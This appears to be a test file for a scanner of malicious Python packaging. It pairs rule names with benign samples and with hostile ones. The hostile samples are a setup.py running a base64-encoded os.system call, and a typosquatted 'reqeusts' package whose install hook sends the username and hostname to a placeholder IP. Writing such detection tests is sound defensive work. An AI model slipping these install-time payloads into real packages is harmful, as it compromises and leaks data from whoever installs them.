from _kit import fires, silent, sample

fires("setup_py_exec_b64", "setup_py_exec_decoded", "high",
      sample("setup-exec.py", "import base64\nfrom setuptools import setup\n"
             "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\nsetup(name='colorsx', version='0.1')\n"),
      "setup.py")
silent("setup_py_plain", "setup_py_exec_decoded",
       sample("setup-plain.py", "from setuptools import setup, find_packages\n\n"
              "with open('README.md') as f:\n    long_description = f.read()\n\n"
              "setup(name='tool', version='1.0', packages=find_packages(), long_description=long_description)\n"),
       "setup.py")
fires("setup_py_beacon", "setup_py_network_at_install", "high",
      sample("setup-beacon.py", "import socket, getpass, urllib.request\nfrom setuptools import setup\n"
             "from setuptools.command.install import install\n\nclass Post(install):\n    def run(self):\n"
             "        info = f'{getpass.getuser()}@{socket.gethostname()}'\n"
             "        urllib.request.urlopen('http://198.51.100.7/c?i=' + info)\n        install.run(self)\n\n"
             "setup(name='reqeusts', version='2.31.0', cmdclass={'install': Post})\n"),
      "setup.py")
silent("setup_py_git_version", "setup_py_network_at_install",
       sample("setup-git-version.py", "import subprocess\nfrom setuptools import setup\n\n"
              "version = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"
              "setup(name='tool', version=version)\n"),
       "setup.py")
fires("pyproject_backend_path", "pyproject_in_tree_build_backend", "warning",
      sample("pyproject-backend-path.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n"),
      "pyproject.toml")
silent("pyproject_setuptools", "pyproject_in_tree_build_backend",
       sample("pyproject-setuptools.toml", "[build-system]\nrequires = [\"setuptools>=61\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"tool\"\n"),
       "pyproject.toml")
